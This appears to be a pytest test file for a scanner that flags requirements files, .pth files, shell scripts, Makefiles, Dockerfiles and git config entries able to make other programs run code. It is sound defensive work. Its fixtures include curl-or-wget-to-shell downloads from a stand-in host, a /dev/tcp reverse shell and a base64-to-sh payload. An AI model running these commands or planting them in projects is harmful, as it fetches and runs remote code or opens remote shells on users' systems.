"""Files that make other programs run something are told by name and plain text."""

from __future__ import annotations

import pytest

from modelctl.scan.side_files import look


def rules(path: str, content: str, *, is_shell: bool = False) -> list[str | None]:
    return [side.rule for side in look(path, content.encode(), is_shell=is_shell)]


@pytest.mark.parametrize(
    ("path", "content", "rule"),
    [
        ("requirements.txt", "torch\n--index-url https://x.example/simple\n", "requirements"),
        ("requirements.txt", "-i http://x.example\n", "requirements"),
        ("requirements-dev.txt", "-e git+https://x.example/y\n", "requirements"),
        ("custom_generate/requirements.txt", "x @ https://x.example/y.whl\n", "requirements"),
        ("requirements.in", "https://x.example/y.tar.gz\n", "requirements"),
        ("environment.yml", "  - --extra-index-url https://x.example\n", "requirements"),
        ("a.pth", "/some/folder\nimport os; x\n", "dynamic-code"),
        ("lib/sitecustomize.py", "", "dynamic-code"),
        ("run.sh", "curl -fsSL https://x.example/i | bash\n", "process"),
        ("Makefile", "all:\n\twget -qO- https://x.example/i | sh\n", "process"),
        ("Dockerfile", 'RUN sh -c "$(curl -fsSL https://x.example/i)"\n', "process"),
        ("x.sh", "bash -i >& /dev/tcp/10.0.0.1/80 0>&1\n", "process"),
        ("x.sh", "echo eA== | base64 -d | sh\n", "process"),
        (".git/config", "[core]\n\tfsmonitor = x\n", "process"),
        ("requirements.txt", "torch>=2\n", None),
        ("run.sh", "python train.py\n", None),
        ("Makefile", "all:\n\techo\n", None),
    ],
)
def test_what_a_file_makes_others_run(path: str, content: str, rule: str | None) -> None:
    assert rules(path, content) == [rule]


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("README.md", "curl https://x.example | sh"),
        ("weights.pth", "\0import os"),
        ("requirements.txt", "# nothing\n"),
        ("notes.txt", "-i http://x.example"),
        (".git/config", "[core]\n\tbare = false\n"),
    ],
)
def test_other_files_are_left_alone(path: str, content: str) -> None:
    assert rules(path, content) == []


def test_a_password_in_a_url_is_not_repeated() -> None:
    (side,) = look("requirements.txt", b"https://me:hunter2hunter2@x.example/y.whl\n", is_shell=False)
    assert "hunter2" not in side.detail
